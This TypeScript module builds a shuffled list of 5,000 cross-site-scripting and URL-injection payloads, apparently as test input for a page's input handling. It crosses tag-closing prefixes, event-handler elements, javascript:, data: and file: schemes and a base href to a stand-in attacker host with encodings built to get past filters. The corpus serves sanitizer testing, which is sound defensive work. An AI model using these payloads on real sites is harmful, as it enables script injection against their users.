/*
 * 5,000 texts that do harm if a page treats them as markup, as a URL or as a placeholder. They are combinations of three lists: prefixes that end
 * the text, code that runs after that, and disguises.
 */

/** Prefixes that end a text, an attribute, a comment, a text element, a script, or a sentence of the widget. */
const PREFIXES = ['', '">', "'>", '--></title></textarea></style></script>', '`}]]>', '{email}{client}{project}{organization}{time}']

/** Elements. An attribute of `HANDLERS` replaces the dots. */
const ELEMENTS = [
  '<img src=x …>',
  '<svg …></svg>',
  '<script src=data:,1 …></script>',
  '<iframe srcdoc="<p>1</p>" …></iframe>',
  '<object data=x …></object>',
  '<video><source …></video>',
  '<input autofocus …>',
  '<details open …>',
  '<a href="javascript:alert(1)" …>a</a>',
  '<form action="javascript:alert(1)" …><button>a</button></form>',
  '<style …>*{display:none}</style>',
  '<base href="//evil.example/" …>',
]
const HANDLERS = ['load', 'error', 'focus', 'click', 'toggle', 'mouseover', 'animationstart', 'pointerrawupdate'].map(
  (event) => `on${event}=alert(1)`,
)

const SCHEMES = ['javascript:', 'data:text/html,', 'data:image/svg+xml,', 'vbscript:', 'blob:', 'file:///', '//evil.example/']
const BODIES = ['alert(1)', '<script>alert(1)</script>', '//%0aalert(1)', '"-alert(1)-"', '${alert(1)}', '', 'x@evil.example']

const codeOf = (character: string): number => character.codePointAt(0) ?? 0
const mapCharacters = (text: string, change: (character: string, index: number) => string) => Array.from(text, change).join('')
const mapPunctuation = (text: string, change: (character: string) => string) => text.replace(/[<>"'():/]/g, change)

/** Encodings that decoders could turn back into the plain form. */
const DISGUISES: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => mapCharacters(text, (character, index) => (index % 2 === 0 ? character.toUpperCase() : character)),
  (text) => mapPunctuation(text, (character) => `&#${codeOf(character)};`),
  (text) => mapPunctuation(text, (character) => `%${codeOf(character).toString(16)}`),
  (text) => mapPunctuation(text, (character) => `\\u00${codeOf(character).toString(16)}`),
  // Fullwidth letters, which some normalizations convert to ASCII.
  (text) => mapPunctuation(text, (character) => String.fromCodePoint(codeOf(character) + 0xfee0)),
  (text) => text.replace(/(?<=[a-z])(?=[a-z])/, '\t\n'),
  (text) => text.replace(/[<:/]/, '$&\u0000\u200b'),
]

const markup = PREFIXES.flatMap((prefix) =>
  ELEMENTS.flatMap((element) => HANDLERS.map((handler) => prefix + element.replace('…', handler))),
)
const addresses = SCHEMES.flatMap((scheme) => BODIES.map((body) => scheme + body))
const allPayloads = DISGUISES.flatMap((disguise) => [...markup, ...addresses].map(disguise))

/** It has no divisor in common with the number of payloads, so that the order below contains each of them once, and mixes all kinds. */
const STRIDE = 1597

/** All payloads. Neighbors have little in common. */
export const PAYLOADS: readonly string[] = allPayloads.map((_, index) => allPayloads[(index * STRIDE) % allPayloads.length] ?? '')
